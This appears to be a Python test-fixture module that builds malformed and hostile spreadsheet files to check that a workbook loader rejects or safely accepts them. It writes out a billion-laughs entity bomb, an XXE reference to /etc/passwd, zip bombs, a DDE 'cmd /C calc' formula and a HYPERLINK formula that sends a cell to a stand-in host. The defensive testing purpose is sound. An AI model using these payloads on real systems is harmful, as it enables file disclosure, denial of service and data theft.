"""Builds the broken / hostile / odd input corpus at test time (nothing binary is committed).

Every builder takes a folder and returns the path it wrote. ``KORPUS`` lists them with what
``buku.buka``/``baca_nilai`` must do: refuse with a GalatPengguna whose message contains some words
("galat"), or load fine ("baik") because the input is valid, only odd.
"""

from __future__ import annotations

import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Literal

from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill

PANJANG_MAKS = 32_767


# ---- helpers ----------------------------------------------------------------------------------------

def buku_valid(folder: Path, nama: str = "valid.xlsx") -> Path:
    """A small, ordinary workbook: header, codes as text, numbers, one formula."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["Kode", "Uraian", "Target", "Realisasi", "Capaian"])
    ws.append(["1.01.01.2.01.0001", "Penyusunan Dokumen Perencanaan", 10, 8, "=D2/C2*100"])
    ws.append(["1.01.01.2.01.0002", "Koordinasi Pelaksanaan", 4, 4, "=D3/C3*100"])
    ws["A1"].font = Font(bold=True)
    p = folder / nama
    wb.save(p)
    return p


def ganti_bagian(sumber: Path, tujuan: Path, ganti: dict[str, bytes | Callable[[zipfile.ZipFile], None]]) -> Path:
    """Copy a zip, replacing some members' bytes (a callable streams the member itself)."""
    with zipfile.ZipFile(sumber) as zin, zipfile.ZipFile(tujuan, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            pengganti = ganti.get(info.filename)
            if pengganti is None:
                zout.writestr(info.filename, zin.read(info))
            elif callable(pengganti):
                pengganti(zout)
            else:
                zout.writestr(info.filename, pengganti)
    return tujuan


_SHEET_AWAL = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def tulis_cfb(path: Path, stream: dict[str, bytes]) -> Path:
    """A minimal, valid OLE2 / MS-CFB compound file (version 3) holding the given streams.

    Streams are padded to 4096 bytes so they live in ordinary sectors (no mini stream needed).
    Enough for olefile to list the directory, which is all the detection looks at.
    """
    SEKTOR = 512
    FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    nama = list(stream)
    isi = [stream[n].ljust(4096, b"\0") for n in nama]
    fat = [FATSECT, END]  # sector 0 = FAT, sector 1 = directory
    awal = []
    for data in isi:
        n = len(data) // SEKTOR
        mulai = len(fat)
        awal.append(mulai)
        fat.extend(list(range(mulai + 1, mulai + n)) + [END])
    assert len(fat) <= SEKTOR // 4, "corpus OLE file too large for one FAT sector"
    fat_b = b"".join(struct.pack("<I", x) for x in fat + [FREE] * (SEKTOR // 4 - len(fat)))

    def entri(n: str, jenis: int, kiri: int, kanan: int, anak: int, mulai: int, ukuran: int) -> bytes:
        nb = (n + "\0").encode("utf-16-le")
        e = (nb.ljust(64, b"\0") + struct.pack("<HBBIII", len(nb), jenis, 1, kiri, kanan, anak)
             + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", mulai, ukuran))
        assert len(e) == 128
        return e

    NOSTREAM = 0xFFFFFFFF
    # Streams as a right-leaning chain of siblings (all black): valid enough for readers.
    dirs = [entri("Root Entry", 5, NOSTREAM, NOSTREAM, 1 if nama else NOSTREAM, END, 0)]
    for i, (n, data) in enumerate(zip(nama, isi)):
        kanan = i + 2 if i + 1 < len(nama) else NOSTREAM
        dirs.append(entri(n, 2, NOSTREAM, kanan, NOSTREAM, awal[i], len(data)))
    assert len(dirs) <= 4
    dir_b = b"".join(dirs).ljust(SEKTOR, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    assert len(header) == 512
    path.write_bytes(header + fat_b + dir_b + b"".join(isi))
    return path


# ---- the corpus -------------------------------------------------------------------------------------

def terpotong(d: Path) -> Path:
    data = buku_valid(d, "asli.xlsx").read_bytes()
    p = d / "terpotong.xlsx"
    p.write_bytes(data[: len(data) // 2])
    return p


def bukan_zip(d: Path) -> Path:
    p = d / "bukan_zip.xlsx"
    p.write_bytes(b"Ini hanya catatan biasa, bukan buku kerja.\nBaris kedua\n")
    return p


def kosong(d: Path) -> Path:
    p = d / "kosong.xlsx"
    p.write_bytes(b"")
    return p


def html_bernama_xls(d: Path) -> Path:
    p = d / "ekspor_sipd.xlsx"
    p.write_bytes(b"<html><body><table><tr><td>1.01</td><td>Pendidikan</td></tr></table></body></html>")
    return p


def csv_bernama_xlsx(d: Path) -> Path:
    p = d / "data_csv.xlsx"
    p.write_bytes("kode;uraian\n1.01;Pendidikan\n".encode())
    return p


def xls_lama(d: Path) -> Path:
    return tulis_cfb(d / "lama.xls", {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"})


def terenkripsi(d: Path) -> Path:
    return tulis_cfb(d / "berkata_sandi.xlsx", {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                                                 "EncryptedPackage": b"\x00" * 64})


def ods(d: Path) -> Path:
    p = d / "lembar.ods"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", b'<?xml version="1.0"?><office:document-content '
                                  b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
        z.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>')
    return p


def xlsb(d: Path) -> Path:
    p = d / "biner.xlsb"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types/>')
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return p


def zip_bukan_xlsx(d: Path) -> Path:
    p = d / "arsip.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("catatan.txt", b"halo")
    return p


def billion_laughs(d: Path) -> Path:
    ent = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{ent}]>'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>').encode()
    return ganti_bagian(buku_valid(d, "asli_bl.xlsx"), d / "billion_laughs.xlsx", {"xl/worksheets/sheet1.xml": xml})


def pindah_lembar(d: Path, isi: bytes | None = None, nama: str = "lembar_pindah.xlsx") -> Path:
    """The sheet part moved to ``xl/data.dat`` (rels and content types follow): legal OOXML."""
    asli = buku_valid(d, "asli_" + nama)
    with zipfile.ZipFile(asli) as z:
        bagian = {i.filename: z.read(i) for i in z.infolist()}
    sheet = bagian.pop("xl/worksheets/sheet1.xml")
    bagian["xl/data.dat"] = sheet if isi is None else isi
    bagian["xl/_rels/workbook.xml.rels"] = bagian["xl/_rels/workbook.xml.rels"].replace(
        b"/xl/worksheets/sheet1.xml", b"/xl/data.dat").replace(b"worksheets/sheet1.xml", b"data.dat")
    bagian["[Content_Types].xml"] = bagian["[Content_Types].xml"].replace(b"/xl/worksheets/sheet1.xml", b"/xl/data.dat")
    p = d / nama
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in bagian.items():
            z.writestr(n, b)
    return p


def billion_laughs_tersembunyi(d: Path) -> Path:
    """The entity bomb in a sheet part whose name does not end in .xml."""
    with zipfile.ZipFile(billion_laughs(d)) as z:
        bom = z.read("xl/worksheets/sheet1.xml")
    return pindah_lembar(d, bom, "bom_tersembunyi.xlsx")


def xxe(d: Path) -> Path:
    asli = buku_valid(d, "asli_xxe.xlsx")
    with zipfile.ZipFile(asli) as z:
        wbxml = z.read("xl/workbook.xml")
    i = wbxml.index(b"<workbook")
    xml = wbxml[:i] + b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + wbxml[i:]
    return ganti_bagian(asli, d / "xxe.xlsx", {"xl/workbook.xml": xml})


def _bom(d: Path, nama: str, mb: int) -> Path:
    def tulis(zout: zipfile.ZipFile) -> None:
        with zout.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(_SHEET_AWAL + b"<sheetData>")
            blok = b" " * (1024 * 1024)
            for _ in range(mb):
                f.write(blok)
            f.write(b"</sheetData></worksheet>")
    return ganti_bagian(buku_valid(d, f"asli_{nama}"), d / nama, {"xl/worksheets/sheet1.xml": tulis})


def zip_bomb(d: Path) -> Path:
    """Tiny file, 300 MB uncompressed sheet (over the total limit and the ratio limit)."""
    return _bom(d, "zip_bomb.xlsx", 300)


def zip_bomb_rasio(d: Path) -> Path:
    """20 MB of whitespace compressed ~1000x: under the size limit, over the ratio limit."""
    return _bom(d, "bom_rasio.xlsx", 20)


def crc_rusak(d: Path) -> Path:
    """A member whose stored data was altered after compression: CRC/zlib error while reading."""
    data = bytearray(buku_valid(d, "asli_crc.xlsx").read_bytes())
    with zipfile.ZipFile(d / "asli_crc.xlsx") as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    awal = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for k in range(awal + 5, awal + min(info.compress_size, 60)):
        data[k] ^= 0x5A
    p = d / "crc_rusak.xlsx"
    p.write_bytes(bytes(data))
    return p


def juta_baris_bergaya(d: Path, n: int = 1_000_000) -> Path:
    """A header and two data rows, then ``n`` empty rows with a row style and two styled empty cells."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(["Kode", "Uraian"])
    ws.append(["1.01", "Pendidikan"])
    ws["C3"].fill = PatternFill("solid", fgColor="FFFF00")  # creates cell style 1
    asli = d / "asli_juta.xlsx"
    wb.save(asli)
    with zipfile.ZipFile(asli) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    kepala, ekor = xml.split(b"</sheetData>")

    def tulis(zout: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zout.open(info, "w") as f:
            f.write(kepala.replace(b'<dimension ref="A1:C3"', f'<dimension ref="A1:C{n + 3}"'.encode()))
            for awal in range(4, n + 4, 10_000):
                f.write("".join(f'<row r="{i}" s="1" customFormat="1"><c r="A{i}" s="1"/><c r="B{i}" s="1"/></row>'
                                for i in range(awal, min(awal + 10_000, n + 4))).encode())
            f.write(b"</sheetData>" + ekor)

    return ganti_bagian(asli, d / "juta_baris.xlsx", {"xl/worksheets/sheet1.xml": tulis})


def dimensi_raksasa(d: Path) -> Path:
    """Three cells but ``<dimension ref="A1:XFD1048576">`` (read-only mode trusts it unless told not to)."""
    asli = buku_valid(d, "asli_dim.xlsx")
    with zipfile.ZipFile(asli) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    import re

    xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
    return ganti_bagian(asli, d / "dimensi_raksasa.xlsx", {"xl/worksheets/sheet1.xml": xml})


def sel_terjauh(d: Path) -> Path:
    """A value in A1 and one in XFD1048576: calamine would try to allocate 17 billion cells and abort."""
    wb = Workbook()
    wb.active.title = "Data"
    wb.active["A1"] = "Kode"
    wb.active["XFD1048576"] = "tersesat"
    p = d / "sel_terjauh.xlsx"
    wb.save(p)
    return p


def sel_tanpa_alamat(d: Path) -> Path:
    """Cells without r="..." in row 1048576: placed by position, same danger as ``sel_terjauh``."""
    sel = "".join(f"<c><v>{i}</v></c>" for i in range(20))
    xml = (_SHEET_AWAL + b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
           + f'<row r="1048576">{sel}</row></sheetData></worksheet>'.encode())
    return ganti_bagian(buku_valid(d, "asli_tanpa_r.xlsx"), d / "sel_tanpa_alamat.xlsx",
                        {"xl/worksheets/sheet1.xml": xml})


def gabung_raksasa(d: Path) -> Path:
    """One merged range over the whole sheet: openpyxl would create 17 billion MergedCell objects."""
    asli = buku_valid(d, "asli_gabung.xlsx")
    with zipfile.ZipFile(asli) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    gabung = b'<mergeCells count="1"><mergeCell ref="A10:XFD1048576"/></mergeCells>'
    xml = xml.replace(b"</sheetData>", b"</sheetData>" + gabung)
    return ganti_bagian(asli, d / "gabung_raksasa.xlsx", {"xl/worksheets/sheet1.xml": xml})


def sel_bergaya_terjauh(d: Path) -> Path:
    """Only *formatting* in XFD1048576 (no value): valid, loads."""
    wb = Workbook()
    wb.active.title = "Data"
    wb.active["A1"] = "Kode"
    wb.active["XFD1048576"].fill = PatternFill("solid", fgColor="FF0000")
    p = d / "sel_bergaya_terjauh.xlsx"
    wb.save(p)
    return p


def sel_gabung_header(d: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "E.81"
    ws["A1"] = "EVALUASI TERHADAP HASIL RENJA PERANGKAT DAERAH"
    ws.merge_cells("A1:F1")
    ws["A3"] = "Kode"
    ws.merge_cells("A3:A4")
    ws["B3"] = "Realisasi Kinerja"
    ws.merge_cells("B3:E3")
    for i, t in enumerate(["I", "II", "III", "IV"]):
        ws.cell(4, 2 + i, t)
    ws.append(["1.01", 1, 2, 3, 4])
    p = d / "gabung.xlsx"
    wb.save(p)
    return p


def formula_ref(d: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws["A1"] = 5
    ws["B1"] = "=#REF!+1"
    ws["C1"] = "=SUM(#REF!)"
    ws["D1"] = "=A1/0"
    p = d / "formula_ref.xlsx"
    wb.save(p)
    return p


TEKS_CMD = "=cmd|' /C calc'!A0"
TEKS_HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik di sini")'


def sel_berbahaya(d: Path) -> Path:
    """A real HYPERLINK formula, and the DDE payload stored as *text* (as a careful writer would)."""
    from renja_xl.buku import tulis_teks

    wb = Workbook()
    ws = wb.active
    ws["A1"] = "rahasia"
    ws["B1"] = TEKS_HYPERLINK
    tulis_teks(ws["C1"], TEKS_CMD)
    tulis_teks(ws["D1"], "@SUM(1+1)")
    p = d / "berbahaya.xlsx"
    wb.save(p)
    return p


def teks_panjang(d: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws["A1"] = ("Uraian sangat panjang " * 2000)[:PANJANG_MAKS]
    p = d / "teks_panjang.xlsx"
    wb.save(p)
    return p


def kode_angka(d: Path) -> Path:
    """Codes typed as numbers (Excel turned '1.01' into 1.01 and '2.10' into 2.1)."""
    wb = Workbook()
    ws = wb.active
    ws.append(["Kode", "Uraian"])
    ws.append([1.01, "Pendidikan"])
    ws.append([2.1, "Perhubungan"])
    ws.append([1, "Urusan Wajib"])
    p = d / "kode_angka.xlsx"
    wb.save(p)
    return p


def csv_bukan_utf8(d: Path) -> Path:
    p = d / "nomenklatur_cp1252.csv"
    p.write_bytes("kode;nama\n1.01;Pendidikan – Dasar\n1.02;Kesehatan café\n".encode("cp1252"))
    return p


@dataclass(frozen=True)
class Kasus:
    nama: str
    buat: Callable[[Path], Path]
    harapan: Literal["galat", "baik"]
    kata: tuple[str, ...] = ()  # words (lower case) the message must contain


KORPUS: list[Kasus] = [
    Kasus("terpotong", terpotong, "galat", ("terpotong",)),
    Kasus("bukan_zip", bukan_zip, "galat", ("bukan",)),
    Kasus("kosong", kosong, "galat", ("kosong",)),
    Kasus("html", html_bernama_xls, "galat", ("html", ".xlsx")),
    Kasus("csv_bernama_xlsx", csv_bernama_xlsx, "galat", ("csv",)),
    Kasus("xls_lama", xls_lama, "galat", (".xls", "simpan ulang sebagai .xlsx")),
    Kasus("terenkripsi", terenkripsi, "galat", ("kata sandi", "buka kata sandinya dulu")),
    Kasus("ods", ods, "galat", (".ods",)),
    Kasus("xlsb", xlsb, "galat", (".xlsb",)),
    Kasus("zip_bukan_xlsx", zip_bukan_xlsx, "galat", ("bukan buku kerja",)),
    Kasus("billion_laughs", billion_laughs, "galat", ("dtd", "lembar 'data'")),
    Kasus("billion_laughs_tersembunyi", billion_laughs_tersembunyi, "galat", ("dtd", "lembar 'data'", "xl/data.dat")),
    Kasus("xxe", xxe, "galat", ("dtd", "xl/workbook.xml")),
    Kasus("zip_bomb", zip_bomb, "galat", ("zip bomb", "200 mb")),
    Kasus("zip_bomb_rasio", zip_bomb_rasio, "galat", ("zip bomb", "200 kali")),
    Kasus("crc_rusak", crc_rusak, "galat", ("rusak",)),
    Kasus("csv_bukan_utf8", csv_bukan_utf8, "galat", ("csv",)),
    Kasus("sel_terjauh", sel_terjauh, "galat", ("xfd1048576", "lembar 'data'", "ctrl+end")),
    Kasus("sel_tanpa_alamat", sel_tanpa_alamat, "galat", ("area terpakai",)),
    Kasus("gabung_raksasa", gabung_raksasa, "galat", ("sel gabung", "a10:xfd1048576", "lembar 'data'")),
    Kasus("lembar_pindah", pindah_lembar, "baik"),
    Kasus("sel_bergaya_terjauh", sel_bergaya_terjauh, "baik"),
    Kasus("juta_baris_bergaya", juta_baris_bergaya, "baik"),
    Kasus("dimensi_raksasa", dimensi_raksasa, "baik"),
    Kasus("sel_gabung_header", sel_gabung_header, "baik"),
    Kasus("formula_ref", formula_ref, "baik"),
    Kasus("sel_berbahaya", sel_berbahaya, "baik"),
    Kasus("teks_panjang", teks_panjang, "baik"),
    Kasus("kode_angka", kode_angka, "baik"),
]
